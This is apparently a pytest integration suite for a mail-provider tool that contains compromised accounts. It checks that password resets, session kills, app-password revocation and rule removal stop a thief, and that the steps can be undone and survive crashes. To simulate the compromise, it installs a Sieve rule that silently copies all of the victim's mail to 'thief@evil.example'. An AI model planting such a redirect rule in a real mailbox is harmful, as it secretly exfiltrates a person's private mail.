"""A thief has a password, an app password, open sessions, a sieve script, a forward: none of it is of use any more."""

import os
import shutil
import smtplib
import sqlite3
from collections.abc import Iterator
from contextlib import closing, contextmanager
from pathlib import Path
from typing import NamedTuple

import pytest
from lab import dovecot_imap, mailbox_server, postfixadmin
from lab.account_life import APP, CARL, CARLS, ROSA
from lab.mailbox_server import MailboxServer, handing_in, is_alive
from lab.postfix import Postfix
from lab.service import Service
from lab.smtp_world import Sink
from lab.waiting import free_port, wait_until

pytestmark = [
    pytest.mark.skipif(os.geteuid() != 0, reason="a real Postfix needs root"),
    pytest.mark.skipif(not shutil.which("postfix", path="/usr/sbin"), reason="postfix is not installed"),
    pytest.mark.skipif(not mailbox_server.INSTALLED, reason="dovecot-imapd or dovecot-sieve is not installed"),
    pytest.mark.skipif(not dovecot_imap.has_driver("sqlite"), reason="dovecot-sqlite is not installed"),
]

KNOWN = "what-the-thief-knows"
THIEF = "thief@evil.example"
ASKED = {"reset-password", "end-sessions", "revoke-app-passwords", "disable-rules"}
SCRIPT = f'require ["copy"];\nredirect :copy "{THIEF}";\n'.encode()
_SETTINGS = """\
[site]
domains = ["isp.example"]
[mail_server]
kind = "postfix"
postfix_config = "{home}/etc"
[acting]
block = "act"
[containment]
dovecot_config = "{dovecot}"
[accounts.panel]
kind = "sql"
engine = "sqlite"
database = "{database}"
tables = "postfixadmin"
"""


class Provider(NamedTuple):
    """What the story acts on."""

    home: Path
    database: Path
    postfix: Postfix
    dovecot: MailboxServer
    service: Service
    sink: Sink

    def everything(self) -> tuple[list[str], list[tuple[str, str]], str]:
        """What has to be as it was: the tables, the account's files, the rights of the tables' file."""
        with closing(sqlite3.connect(self.database)) as opened:
            tables = list(opened.iterdump())
        rosa = self.dovecot.home / "mail" / ROSA
        files = [(each.name, str(each.readlink())) for each in rosa.iterdir() if each.is_symlink()]
        files += [(each.name, each.read_text()) for each in sorted((rosa / "sieve").glob("*.sieve"))]
        return tables, files, oct(self.database.stat().st_mode)

    def arrived(self, recipient: str) -> int:
        """How much came to somebody elsewhere."""
        return sum(recipient in each.recipients for each in list(self.sink.accepted))


@contextmanager
def provider(home: Path, more: str = "") -> Iterator[Provider]:
    """Start everything; end everything."""
    sink, database = Sink(), home / "accounts.db"
    with closing(sqlite3.connect(database)) as made:
        for statement in postfixadmin.statements("sqlite"):
            made.execute(statement)
        made.execute("UPDATE mailbox SET password = ? WHERE username = ?", (f"{{PLAIN}}{KNOWN}", ROSA))
        # The thief's forward is of today.
        made.execute("UPDATE alias SET modified = datetime('now') WHERE address = ?", (ROSA,))
        made.commit()
    database.chmod(0o644)
    settings = _SETTINGS.format(home=home, dovecot=home / "dovecot/dovecot.conf", database=database)
    service = Service(home, home / "maillog", settings + more)
    milters = f"smtpd_milters = unix:{service.milter}\nmilter_default_action = tempfail\n"
    postfix = Postfix(home, sink, settings=milters)
    dovecot = MailboxServer(home / "dovecot", postfix.socket, sink, postfixadmin.passdbs("sqlite", str(database)))
    postfix.start(free_port())
    try:
        service.start()
        yield Provider(home, database, postfix, dovecot, service, sink)
    finally:
        if service.process is not None and service.process.poll() is None:
            service.stop()
        postfix.stop()
        dovecot.stop()
        sink.stop()


def test_contained_it_stays_contained_and_comes_back_whole(home: Path) -> None:
    with provider(home) as world:
        world.dovecot.doveadm("sieve", "put", "-u", ROSA, "-a", "main", given=SCRIPT)
        before = world.everything()
        reading = [world.dovecot.log_in(ROSA, KNOWN), world.dovecot.log_in(ROSA, APP)]
        with handing_in(world.postfix.submission, ROSA, KNOWN) as writing:
            assert writing is not None
            assert all(session is not None and is_alive(session) for session in reading)
            assert not is_refused(writing)
            _reads_along(world)

            done = world.service.ask("account", "contain", ROSA, "--reason", "her password is in a stolen list")
            assert [line for line in done["checklist"] if line["holds"] is not True] == []
            assert sum(THIEF in line["words"] for line in done["checklist"]) == 2

            # Open sessions, the memory of right passwords, the app password: each by itself would be a way back.
            assert not any(session is not None and is_alive(session) for session in reading)
            assert is_refused(writing)
        _comes_not_back(world)
        _reads_no_more(world)
        assert world.dovecot.lets_in(CARL, CARLS)

        undone = world.service.ask("account", "undo-containment", ROSA, "--reason", "it was another Rosa")
        assert not undone["failed"]
        assert world.everything() == before
        assert world.dovecot.lets_in(ROSA, KNOWN)
        assert world.dovecot.lets_in(ROSA, APP)
        with handing_in(world.postfix.submission, ROSA, KNOWN) as again:
            assert again is not None
            assert not is_refused(again)
        assert world.service.run("audit", "verify").returncode == 0


def test_bad_input_is_one_line_and_nothing_half_done(home: Path) -> None:
    with provider(home) as world:
        world.dovecot.doveadm("sieve", "put", "-u", ROSA, "-a", "main", given=SCRIPT)
        before = world.everything()
        nobody = world.service.run("account", "contain", "nobody@isp.example", "--reason", "x")
        assert (nobody.returncode, nobody.stderr) == (3, "outwarden: no account nobody@isp.example in panel\n")
        planned = world.service.ask("account", "contain", ROSA, "--dry-run")
        assert any(THIEF in line["deed"] for line in planned["checklist"])
        assert world.everything() == before
        twice = world.service.configuration.read_text() + _SETTINGS[_SETTINGS.index("[accounts") :].format(
            database=world.database
        ).replace("panel", "copy")
        world.service.configuration.write_text(twice)
        two = world.service.run("account", "contain", ROSA, "--reason", "x")
        assert two.returncode == 4
        assert "several places (panel, copy)" in two.stderr
        assert world.everything() == before
        wrong = twice.replace(str(world.database), str(world.home / "elsewhere.db"))
        world.service.configuration.write_text(wrong)
        elsewhere = world.service.run("account", "contain", ROSA, "--reason", "x")
        assert elsewhere.returncode == 1
        assert "elsewhere.db" in elsewhere.stdout
        nothing = world.service.run("account", "undo-containment", "jan@isp.example", "--reason", "x")
        assert nothing.returncode == 3


def test_a_case_contains_it_though_killed_at_every_step(home: Path) -> None:
    with provider(home, '[cases]\nmode = "act"\n') as world:
        world.dovecot.doveadm("sieve", "put", "-u", ROSA, "-a", "main", given=SCRIPT)
        before = world.everything()
        reading = [world.dovecot.log_in(ROSA, KNOWN), world.dovecot.log_in(ROSA, APP)]
        world.service.ask("account", "block", ROSA, "--reason", "spam")
        kills = _killed_at_every_step(world)
        assert kills >= 4
        assert not any(session is not None and is_alive(session) for session in reading)
        _comes_not_back(world)
        _reads_no_more(world, copies=0)

        world.service.ask("account", "unblock", ROSA, "--wrongly", "--reason", "it was another Rosa")
        wait_until(lambda: world.everything() == before, "everything to be as it was")
        # Dovecot remembers that this password was wrong until it is told to forget, which comes last.
        wait_until(lambda: world.dovecot.lets_in(ROSA, KNOWN), "Rosa to be let in")
        assert world.service.run("audit", "verify").returncode == 0


def _killed_at_every_step(world: Provider) -> int:
    """Kill the service as soon as a further step is written down, and start it again, until all of them are over."""
    seen = kills = 0

    def is_over() -> bool:
        nonlocal seen, kills
        states = _steps(world)
        if len(states) > seen:
            seen, kills = len(states), kills + 1
            world.service.kill()
            world.service.start()
        asked = {response for response, _ in states}
        return asked >= ASKED and all(state == "done" for _, state in states)

    wait_until(is_over, "the case to contain it", 90)
    return kills


def _steps(world: Provider) -> list[tuple[str, str]]:
    with closing(sqlite3.connect(f"file:{world.service.store}?mode=ro", uri=True, timeout=10)) as store:
        return list(store.execute("SELECT response, state FROM containment_steps"))


def is_refused(session: smtplib.SMTP) -> bool:
    """Try to hand in through a session that is open."""
    try:
        session.sendmail(ROSA, ["friend@bigmail.example"], b"Subject: You have won\r\n\r\nReally.\r\n")
    except smtplib.SMTPException:
        return True
    return False


def _comes_not_back(world: Provider) -> None:
    for _ in range(3):
        assert not world.dovecot.lets_in(ROSA, KNOWN)
        assert not world.dovecot.lets_in(ROSA, APP)
        with handing_in(world.postfix.submission, ROSA, KNOWN) as writing:
            assert writing is None
    assert world.dovecot.doveadm("-f", "tab", "who", "-1", ROSA).count("\n") == 1


def _reads_along(world: Provider) -> None:
    world.dovecot.deliver(ROSA, "before")
    wait_until(lambda: world.arrived(THIEF) == 1, "the thief's copy")


def _reads_no_more(world: Provider, copies: int = 1) -> None:
    world.dovecot.deliver(ROSA, "after")
    subjects = world.dovecot.doveadm("fetch", "-u", ROSA, "hdr.subject", "ALL")
    assert "after" in subjects
    assert world.arrived(THIEF) == copies
